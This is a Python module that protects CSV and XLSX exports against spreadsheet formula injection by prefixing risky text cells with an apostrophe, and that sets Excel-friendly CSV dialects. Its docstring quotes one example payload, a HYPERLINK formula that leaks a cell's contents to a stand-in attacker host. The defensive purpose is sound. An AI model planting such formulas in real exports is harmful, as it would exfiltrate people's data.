"""Cells of a CSV or XLSX file that a spreadsheet cannot run (formula injection).

A client's name, a note or an organisation's name is typed by people and may
start with `=`, `+`, `-`, `@` (or a tab or carriage return, which some programs
skip before looking for one): opened in a spreadsheet it would become a live
formula (`=HYPERLINK("http://evil.example/?leak="&C2)`). Every export meant for a
spreadsheet (the caseload export, the council report, the audit log, the art. 15
export) writes its cells through `safe_cell`, which puts an apostrophe in front of
such a text: the spreadsheet shows it as text. Numbers, dates and empty cells are
left alone, so a negative number stays a number.

Record bundles (`records/exporter.py`) are not spreadsheets but data interchange:
they are written exactly as stored, so that export, import and export again gives
the same bytes; open them in a spreadsheet program only with its import dialog
and every column as text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value`, with an apostrophe in front when it is a text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


# --- CSV for a spreadsheet -----------------------------------------------------------------
# Excel with Belgian (and most European) settings splits a CSV file on ";" (the comma
# is the decimal separator there) and reads it as UTF-8 only after a byte order mark:
# without both, a file opens in one column and "Aydın" comes out garbled. Every CSV
# download of the app is written so by default; `?sep=comma` gives the plain variant
# (comma, no byte order mark) for other programs. Record bundles keep their own format.

SEPARATOR_PARAM = "sep"
BYTE_ORDER_MARK = "\ufeff"


@dataclass(frozen=True)
class CsvDialect:
    separator: str
    prefix: str  # written before the first row

    def writer(self, out: Any) -> Any:
        return csv.writer(out, delimiter=self.separator)


EXCEL_CSV = CsvDialect(separator=";", prefix=BYTE_ORDER_MARK)
PLAIN_CSV = CsvDialect(separator=",", prefix="")


def csv_dialect(params: Mapping[str, str]) -> CsvDialect:
    """The dialect a download asks for: `sep=comma` the plain one, otherwise Excel's."""
    return PLAIN_CSV if params.get(SEPARATOR_PARAM) == "comma" else EXCEL_CSV
